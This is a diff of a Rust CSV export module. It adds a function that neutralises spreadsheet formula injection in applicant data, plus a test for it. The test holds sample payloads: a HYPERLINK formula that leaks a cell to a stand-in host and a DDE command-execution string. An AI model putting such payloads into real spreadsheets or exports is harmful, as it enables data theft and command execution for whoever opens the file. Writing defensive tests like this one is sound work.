@@ -108,14 +108,33 @@ fn split(mut records: Vec<Vec<String>>) -> Result<Table, &'static str> {
     Ok(Table { header, rows })
 }
 
-/// CSV with a byte-order mark, so that Excel opens accents and Arabic correctly.
+/// A cell a spreadsheet would run as a formula (`=HYPERLINK(…)` typed into a name by an
+/// applicant) gets a leading `'`, which makes it text. Phone numbers and signed numbers
+/// (`+216 20 123 456`, `-3`) are left as they are.
+fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = match cell.chars().next() {
+        Some('=' | '@' | '\t' | '\r') => true,
+        Some('+' | '-') => !cell[1..]
+            .chars()
+            .all(|c| c.is_ascii_digit() || " ()-./".contains(c)),
+        _ => false,
+    };
+    if risky {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// CSV with a byte-order mark, so that Excel opens accents and Arabic correctly. Cells that
+/// would run as formulas are made inert (see `inert`).
 pub fn to_csv(header: &[String], rows: &[Vec<String>]) -> Vec<u8> {
     let mut out = Vec::from("\u{feff}".as_bytes());
     {
         let mut w = csv::Writer::from_writer(&mut out);
-        let _ = w.write_record(header);
+        let _ = w.write_record(header.iter().map(|h| inert(h).into_owned()));
         for r in rows {
-            let _ = w.write_record(r);
+            let _ = w.write_record(r.iter().map(|c| inert(c).into_owned()));
         }
         let _ = w.flush();
     }
@@ -207,5 +226,23 @@ mod tests {
         );
         assert_eq!(read(&[0xff, 0xfe, 0x00, 0x41]), Err("error-import-format"));
         assert_eq!(read(b"\n\n"), Err("error-import-empty"));
+    }
+
+    #[test]
+    fn csv_cells_never_run_as_formulas() {
+        let rows = vec![vec![
+            "=HYPERLINK(\"http://x/?\"&B2,\"CV\")".to_owned(),
+            "@SUM(A1)".to_owned(),
+            "+cmd|' /C calc'!A0".to_owned(),
+            "+216 20 123 456".to_owned(),
+            "-3".to_owned(),
+            "Trabelsi".to_owned(),
+        ]];
+        let csv = String::from_utf8(to_csv(&["a".to_owned()], &rows)).unwrap_or_default();
+        let line = csv.lines().nth(1).unwrap_or_default();
+        assert!(line.starts_with("\"'=HYPERLINK("), "{line}");
+        assert!(line.contains(",'@SUM(A1),"), "{line}");
+        assert!(line.contains("'+cmd|"), "{line}");
+        assert!(line.contains(",+216 20 123 456,-3,Trabelsi"), "{line}");
     }
 }
